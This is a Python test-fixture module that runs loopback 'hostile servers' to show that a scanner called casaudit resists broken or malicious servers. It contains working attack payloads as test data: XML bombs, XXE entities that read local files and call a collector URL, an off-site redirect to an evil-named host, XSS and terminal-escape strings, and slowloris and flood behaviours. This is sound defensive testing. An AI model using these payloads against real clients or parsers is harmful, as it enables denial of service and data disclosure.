"""Hostile and broken servers for proving casaudit stays bounded.

Each behaviour is a small function that owns one accepted connection and does
something a malicious or broken server does: never answer, trickle bytes,
stop half-way, send without end, send absurd headers, loop redirects, lure
off scope, speak garbage instead of TLS, speak TLS where cleartext is due (and
the reverse), answer Autodiscover with XML bombs, external entities and DTDs,
greet in POP3/IMAP4 with terminal escapes and markup, flood or dribble lines.
`HostileServer` serves one behaviour on 127.0.0.1 (port 0) until closed; every
connection thread stops when the server closes, so a test never leaves a thread
writing forever. `HitRecorder` is the listener an XXE would reach.
"""

from __future__ import annotations

import socket
import ssl
import threading
import time
from collections.abc import Callable
from types import TracebackType

LOOPBACK = "127.0.0.1"
Behaviour = Callable[[socket.socket, threading.Event], None]

_CHUNK = b"x" * 65536


def _read_request_head(sock: socket.socket, stop: threading.Event, limit: int = 65536) -> bytes:
    """Read until the blank line ending a request head (bounded), or give up."""
    sock.settimeout(1.0)
    data = b""
    while not stop.is_set() and b"\r\n\r\n" not in data and len(data) < limit:
        try:
            chunk = sock.recv(4096)
        except TimeoutError:
            continue
        except OSError:
            break
        if not chunk:
            break
        data += chunk
    return data


def _path(head: bytes) -> str:
    try:
        return head.split(b"\r\n", 1)[0].split(b" ")[1].decode("latin-1")
    except IndexError:
        return "/"


def _send(sock: socket.socket, data: bytes) -> bool:
    try:
        sock.sendall(data)
        return True
    except OSError:
        return False


def _heard_client(sock: socket.socket) -> bool:
    """Wait up to 2 s for the client's first bytes (its ClientHello or request)."""
    sock.settimeout(2.0)
    try:
        sock.recv(4096)
        return True
    except OSError:
        return False


def silent(sock: socket.socket, stop: threading.Event) -> None:
    """Accept and never say a word."""
    stop.wait()


def slowloris(sock: socket.socket, stop: threading.Event) -> None:
    """Answer one byte per second, forever."""
    _read_request_head(sock, stop)
    answer = b"HTTP/1.1 200 OK\r\nX-Trickle: " + b"a" * 10_000
    for byte in answer:
        if stop.wait(1.0) or not _send(sock, bytes([byte])):
            return


def stop_midway(sock: socket.socket, stop: threading.Event) -> None:
    """Promise a body, send half of it, hang up."""
    _read_request_head(sock, stop)
    _send(sock, b"HTTP/1.1 200 OK\r\nContent-Length: 1000\r\nContent-Type: text/html\r\n\r\n" + b"y" * 500)


def endless_body(sock: socket.socket, stop: threading.Event) -> None:
    """A chunked body that never ends."""
    _read_request_head(sock, stop)
    if not _send(sock, b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"):
        return
    chunk = b"%x\r\n" % len(_CHUNK) + _CHUNK + b"\r\n"
    while not stop.is_set() and _send(sock, chunk):
        pass


def huge_body(sock: socket.socket, stop: threading.Event) -> None:
    """Announce and send a 100 MB body."""
    _read_request_head(sock, stop)
    size = 100 * 1024 * 1024
    if not _send(sock, b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % size):
        return
    sent = 0
    while sent < size and not stop.is_set() and _send(sock, _CHUNK):
        sent += len(_CHUNK)


def many_headers(sock: socket.socket, stop: threading.Event) -> None:
    """10,000 header lines."""
    _read_request_head(sock, stop)
    headers = b"".join(b"X-H%d: v\r\n" % n for n in range(10_000))
    _send(sock, b"HTTP/1.1 401 Unauthorized\r\n" + headers + b"WWW-Authenticate: Basic\r\n"
          b"Content-Length: 0\r\n\r\n")


def long_header(sock: socket.socket, stop: threading.Event) -> None:
    """One header line of 1 MB."""
    _read_request_head(sock, stop)
    _send(sock, b"HTTP/1.1 200 OK\r\nX-Long: " + b"z" * (1024 * 1024) + b"\r\nContent-Length: 0\r\n\r\n")


def redirect_loop(sock: socket.socket, stop: threading.Event) -> None:
    """Redirect every path to itself plus one more segment, forever."""
    head = _read_request_head(sock, stop)
    path = _path(head).rstrip("/")
    _send(sock, f"HTTP/1.1 302 Found\r\nLocation: {path}/again\r\nContent-Length: 0\r\n"
                "Connection: close\r\n\r\n".encode())


def redirect_offsite(sock: socket.socket, stop: threading.Event) -> None:
    """Lure the client to a host outside the target's names."""
    _read_request_head(sock, stop)
    _send(sock, b"HTTP/1.1 302 Found\r\nLocation: https://collector.evil.test/owa\r\n"
                b"Content-Length: 0\r\nConnection: close\r\n\r\n")


def redirect_private_address(sock: socket.socket, stop: threading.Event) -> None:
    """Lure the client to a non-loopback private address."""
    _read_request_head(sock, stop)
    _send(sock, b"HTTP/1.1 301 Moved Permanently\r\nLocation: http://10.20.30.40/owa/\r\n"
                b"Content-Length: 0\r\nConnection: close\r\n\r\n")


def escape_strings(sock: socket.socket, stop: threading.Event) -> None:
    """Terminal escapes, invalid UTF-8 and markup in the reason, headers and body."""
    _read_request_head(sock, stop)
    body = b"<script>alert('body')</script>\xff\xfe\x1b[2J"
    _send(
        sock,
        b"HTTP/1.1 401 \x1b[31mOwned<script>alert(1)</script>\xff\r\n"
        b"Server: \x1b]0;pwned\x07<b>IIS</b>\r\n"
        b"WWW-Authenticate: Basic realm=\"<script>alert('realm')</script>\x1b[5m\xc3\x28\"\r\n"
        b"Content-Length: %d\r\nConnection: close\r\n\r\n" % len(body) + body,
    )


def tls_garbage(sock: socket.socket, stop: threading.Event) -> None:
    """Answer a ClientHello with bytes that are not TLS."""
    if not _heard_client(sock):
        return
    _send(sock, b"\x16\x03\x01\x00\x05garbage-not-a-server-hello" * 10)
    stop.wait(0.5)


def tls_reset(sock: socket.socket, stop: threading.Event) -> None:
    """Reset the connection in the middle of the handshake."""
    if not _heard_client(sock):
        return
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\x01\x00\x00\x00\x00\x00\x00\x00")


# -- Autodiscover answers that attack the XML parser --------------------------------------

AUTODISCOVER_XML_PATH = "/autodiscover/autodiscover.xml"
_AD_NS = "http://schemas.microsoft.com/exchange/autodiscover/responseschema/2006"
_OUTLOOK_NS = "http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a"
HUGE_XML_BYTES = 50 * 1024 * 1024


def billion_laughs() -> bytes:
    """Ten levels of ten entity references: 10^9 "lol"s (3 GB) from under 1 KB."""
    levels = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)
    ]
    return (f'<?xml version="1.0"?>\n<!DOCTYPE Autodiscover [{"".join(levels)}]>\n'
            f'<Autodiscover xmlns="{_AD_NS}"><Response>&lol9;</Response></Autodiscover>').encode()


def quadratic_blowup() -> bytes:
    """One 50,000-character entity referenced 4,000 times: 200 MB from 66 KB, no nesting."""
    return (f'<?xml version="1.0"?>\n<!DOCTYPE Autodiscover [<!ENTITY a "{"A" * 50_000}">]>\n'
            f'<Autodiscover xmlns="{_AD_NS}"><Response>{"&a;" * 4000}</Response>'
            "</Autodiscover>").encode()


def external_entities(collector: str, secret_file: str) -> bytes:
    """XXE: a general entity reading a local file, another fetching a URL."""
    return (f'<?xml version="1.0"?>\n<!DOCTYPE Autodiscover [\n'
            f'<!ENTITY leak SYSTEM "file://{secret_file}">\n'
            f'<!ENTITY call SYSTEM "{collector}/xxe">]>\n'
            f'<Autodiscover xmlns="{_AD_NS}"><Response xmlns="{_OUTLOOK_NS}"><Account>'
            "<Action>settings</Action><Protocol><Type>EXCH</Type>"
            "<EwsUrl>https://&leak;/EWS/Exchange.asmx</EwsUrl><Server>&call;</Server>"
            "</Protocol></Account></Response></Autodiscover>").encode()


def external_dtd(collector: str) -> bytes:
    """A DTD with an external subset and an external parameter entity, both on `collector`."""
    return (f'<?xml version="1.0"?>\n<!DOCTYPE Autodiscover SYSTEM "{collector}/subset.dtd" [\n'
            f'<!ENTITY % remote SYSTEM "{collector}/parameter.dtd"> %remote;]>\n'
            f'<Autodiscover xmlns="{_AD_NS}"><Response/></Autodiscover>').encode()


MALFORMED_XML = (f'<?xml version="1.0"?><Autodiscover xmlns="{_AD_NS}"><Response xmlns='
                 f'"{_OUTLOOK_NS}"><Account><Action>settings</Account></Response>').encode()


def _http_answer(sock: socket.socket, stop: threading.Event) -> tuple[str, str] | None:
    """Read one request (head, then a body of at most 64 KiB): (method, path), or None."""
    head = _read_request_head(sock, stop)
    if b"\r\n\r\n" not in head:
        return None
    lines = head.split(b"\r\n")
    length = 0
    for line in lines[1:]:
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"content-length" and value.strip().isdigit():
            length = min(int(value), 65536)
    missing = length - len(head.partition(b"\r\n\r\n")[2])
    while missing > 0 and not stop.is_set():
        try:
            chunk = sock.recv(min(missing, 4096))
        except OSError:
            return None
        if not chunk:
            break
        missing -= len(chunk)
    method = lines[0].split(b" ")[0].decode("latin-1")
    return method, _path(head).split("?", 1)[0].lower()


def autodiscover_xml(payload: bytes | Callable[[], bytes], *, promised: int | None = None) -> Behaviour:
    """Answer Autodiscover URLs with `payload` as text/xml, every other path 404.

    `promised` announces a longer Content-Length than is sent, then hangs up (a
    body cut short).
    """

    def behaviour(sock: socket.socket, stop: threading.Event) -> None:
        request = _http_answer(sock, stop)
        if request is None:
            return
        if not request[1].endswith(AUTODISCOVER_XML_PATH):
            _send(sock, b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
            return
        body = payload() if callable(payload) else payload
        _send(sock, b"HTTP/1.1 200 OK\r\nContent-Type: text/xml; charset=utf-8\r\n"
                    b"Content-Length: %d\r\nConnection: close\r\n\r\n" % (promised or len(body))
              + body)

    return behaviour


def autodiscover_huge(sock: socket.socket, stop: threading.Event) -> None:
    """A 50 MB Autodiscover XML body: announced, and sent for as long as the client reads."""
    request = _http_answer(sock, stop)
    if request is None:
        return
    if not request[1].endswith(AUTODISCOVER_XML_PATH):
        _send(sock, b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        return
    start = f'<?xml version="1.0"?><Autodiscover xmlns="{_AD_NS}"><Response>'.encode()
    if not _send(sock, b"HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\nContent-Length: %d\r\n"
                       b"Connection: close\r\n\r\n" % HUGE_XML_BYTES + start):
        return
    pad = b"<Pad>" + b"p" * (65536 - 11) + b"</Pad>"
    sent = len(start)
    while sent + len(pad) <= HUGE_XML_BYTES and not stop.is_set() and _send(sock, pad):
        sent += len(pad)


class HitRecorder:
    """A loopback HTTP listener that records every connection (an XXE or DTD fetch would land here).

    It answers each request with `secret` so that, were anything fetched and
    expanded, the secret would show in the scan's output: a test asserts both
    "no hit" and "no secret anywhere".
    """

    def __init__(self, secret: bytes) -> None:
        self.hits: list[bytes] = []
        self._secret = secret
        self._server = HostileServer(self._answer)

    @property
    def url(self) -> str:
        return f"http://{LOOPBACK}:{self._server.port}"

    def _answer(self, sock: socket.socket, stop: threading.Event) -> None:
        self.hits.append(_read_request_head(sock, stop, limit=4096) or b"(connected)")
        _send(sock, b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\nConnection: close\r\n\r\n"
              % len(self._secret) + self._secret)

    def close(self) -> None:
        self._server.close()

    def __enter__(self) -> HitRecorder:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()


# -- the wrong protocol on a port: TLS where cleartext is due, and the reverse -------------

#: A TLS 1.2 ServerHello record (random all zeros, ECDHE-RSA-AES128-GCM-SHA256).
SERVER_HELLO = (b"\x16\x03\x03\x00\x2a\x02\x00\x00\x26\x03\x03" + b"\x00" * 32
                + b"\x00\xc0\x2f\x00")


def greeting(line: bytes) -> Behaviour:
    """Say `line` on connect, then nothing more (with TLS: a mail server on the wrong port)."""

    def behaviour(sock: socket.socket, stop: threading.Event) -> None:
        if _send(sock, line):
            stop.wait(10)

    return behaviour


def server_hello_first(sock: socket.socket, stop: threading.Event) -> None:
    """Send a TLS ServerHello the moment the client connects, where a greeting is due."""
    if _send(sock, SERVER_HELLO):
        stop.wait(10)


def cleartext_http(sock: socket.socket, stop: threading.Event) -> None:
    """A plain HTTP server on a TLS port: whatever arrives, a 400 in clear, then close."""
    if not _heard_client(sock):
        return
    body = b"<html><body>400 Bad Request: plain HTTP request sent to HTTPS port?</body></html>"
    _send(sock, b"HTTP/1.1 400 Bad Request\r\nContent-Type: text/html\r\nContent-Length: %d\r\n"
                b"Connection: close\r\n\r\n" % len(body) + body)


# -- mail servers whose words are hostile ---------------------------------------------------


def mail_dialogue(greeting: bytes, replies: dict[bytes, bytes], *, tagged: bool) -> Behaviour:
    """Greet, then answer each command line from `replies` (by verb; b"" is the default).

    `tagged` (IMAP): the verb is the second word and `{tag}` in a reply becomes the
    command's tag. The dialogue ends after QUIT or LOGOUT, or at 64 KiB of input.
    """

    def behaviour(sock: socket.socket, stop: threading.Event) -> None:
        sock.settimeout(1.0)
        if not _send(sock, greeting):
            return
        buffer = b""
        while not stop.is_set() and len(buffer) < 65536:
            try:
                chunk = sock.recv(4096)
            except TimeoutError:
                continue
            except OSError:
                return
            if not chunk:
                return
            buffer += chunk
            while b"\n" in buffer:
                line, _, buffer = buffer.partition(b"\n")
                words = line.strip().split(b" ")
                tag, verb = (words[0], words[1] if len(words) > 1 else b"") if tagged else (b"", words[0])
                verb = verb.upper()
                if not _send(sock, replies.get(verb, replies[b""]).replace(b"{tag}", tag)):
                    return
                if verb in (b"QUIT", b"LOGOUT"):
                    return

    return behaviour


def escape_mail(protocol: str, version: str = "2.4.17") -> Behaviour:
    """A POP3 or IMAP4 server whose greeting, capabilities and replies carry terminal
    escapes (colour, title, clear screen, blink), `<script>` and invalid UTF-8."""
    if protocol == "pop3":
        return mail_dialogue(
            b"+OK \x1b[31m<script>alert('pop3')</script>\xff\xfe Cyrus POP3 v%s "
            b"\x1b]0;pwned\x07ready\r\n" % version.encode(),
            {b"CAPA": b"+OK\r\nUSER\r\nX-\x1b[2J<script>alert('capa')</script>\xc3\x28\r\n.\r\n",
             b"USER": b"-ERR \x1b[5m<script>alert('user')</script>\xff\r\n",
             b"QUIT": b"+OK bye\r\n", b"": b"-ERR unknown command\r\n"},
            tagged=False,
        )
    return mail_dialogue(
        b"* OK [ALERT] \x1b[31m<script>alert('imap')</script>\xff Cyrus IMAP v%s "
        b"\x1b]0;pwned\x07ready\r\n" % version.encode(),
        {b"CAPABILITY": b"* CAPABILITY IMAP4rev1 X-\x1b[2J<script>alert('caps')</script>\xc3\x28\r\n"
                        b"{tag} OK done\r\n",
         b"LOGOUT": b"* BYE \x1b[5m<script>alert('bye')</script>\r\n{tag} OK\r\n",
         b"": b"{tag} BAD unknown command\r\n"},
        tagged=True,
    )


def mail_flood(sock: socket.socket, stop: threading.Event) -> None:
    """One endless line where a greeting is due."""
    chunk = b"* OK " + b"A" * 65536
    while not stop.is_set() and _send(sock, chunk):
        pass


def dribble(start: bytes, line: bytes) -> Behaviour:
    """`start` (a greeting and the start of an answer), then `line` every 0.1 s for ever."""

    def behaviour(sock: socket.socket, stop: threading.Event) -> None:
        if not _send(sock, start):
            return
        while not stop.wait(0.1) and _send(sock, line):
            pass

    return behaviour


BEHAVIOURS: dict[str, Behaviour] = {
    "silent": silent,
    "slowloris": slowloris,
    "stop_midway": stop_midway,
    "endless_body": endless_body,
    "huge_body": huge_body,
    "many_headers": many_headers,
    "long_header": long_header,
    "redirect_loop": redirect_loop,
    "redirect_offsite": redirect_offsite,
    "redirect_private_address": redirect_private_address,
    "escape_strings": escape_strings,
    "tls_garbage": tls_garbage,
    "tls_reset": tls_reset,
    "autodiscover_billion_laughs": autodiscover_xml(billion_laughs),
    "autodiscover_quadratic_blowup": autodiscover_xml(quadratic_blowup),
    "autodiscover_malformed": autodiscover_xml(MALFORMED_XML),
    "autodiscover_cut_short": autodiscover_xml(MALFORMED_XML[:120], promised=5000),
    "autodiscover_huge": autodiscover_huge,
    "imap_greeting": greeting(b"* OK [CAPABILITY IMAP4rev1 STARTTLS] IMAP4 ready\r\n"),
    "pop3_greeting": greeting(b"+OK POP3 ready\r\n"),
    "server_hello_first": server_hello_first,
    "cleartext_http": cleartext_http,
    "pop3_escapes": escape_mail("pop3"),
    "imap_escapes": escape_mail("imap"),
    "mail_flood": mail_flood,
    # A CAPA (POP3) or CAPABILITY (IMAP4) answer that never ends.
    "pop3_dribble": dribble(b"+OK ready\r\n+OK\r\n", b"X\r\n"),
    "imap_dribble": dribble(b"* OK ready\r\n", b"* X\r\n"),
}


class HostileServer:
    """One behaviour (a name in BEHAVIOURS, or the function itself) on 127.0.0.1.

    `tls_context` wraps accepted sockets first.
    """

    def __init__(self, behaviour: str | Behaviour, tls_context: ssl.SSLContext | None = None) -> None:
        self._behaviour = BEHAVIOURS[behaviour] if isinstance(behaviour, str) else behaviour
        self._tls = tls_context
        self._stop = threading.Event()
        self._listener = socket.create_server((LOOPBACK, 0))
        self._listener.settimeout(0.2)
        self.port: int = self._listener.getsockname()[1]
        self._threads: list[threading.Thread] = []
        self._acceptor = threading.Thread(target=self._accept, daemon=True)
        self._acceptor.start()

    def _accept(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self._listener.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            thread = threading.Thread(target=self._serve, args=(conn,), daemon=True)
            thread.start()
            self._threads.append(thread)

    def _serve(self, conn: socket.socket) -> None:
        try:
            if self._tls is not None:
                conn.settimeout(5.0)
                conn = self._tls.wrap_socket(conn, server_side=True)
            self._behaviour(conn, self._stop)
        except (OSError, ssl.SSLError):
            pass
        finally:
            try:
                conn.close()
            except OSError:
                pass

    def close(self) -> None:
        self._stop.set()
        self._listener.close()
        deadline = time.monotonic() + 5
        for thread in [self._acceptor, *self._threads]:
            thread.join(max(0.0, deadline - time.monotonic()))

    def __enter__(self) -> HostileServer:
        return self

    def __exit__(
        self,
        exc_type: type[BaseException] | None,
        exc: BaseException | None,
        traceback: TracebackType | None,
    ) -> None:
        self.close()
